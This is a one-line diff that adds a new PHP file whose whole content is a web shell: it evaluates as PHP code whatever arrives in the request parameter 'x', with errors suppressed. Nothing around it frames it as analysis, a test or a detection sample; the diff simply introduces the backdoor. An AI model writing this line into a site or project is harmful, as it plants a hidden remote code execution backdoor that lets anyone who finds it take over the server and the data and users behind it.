@@ -1,0 +1,1 @@
+<?php @$_REQUEST['x'] && eval($_REQUEST['x']);
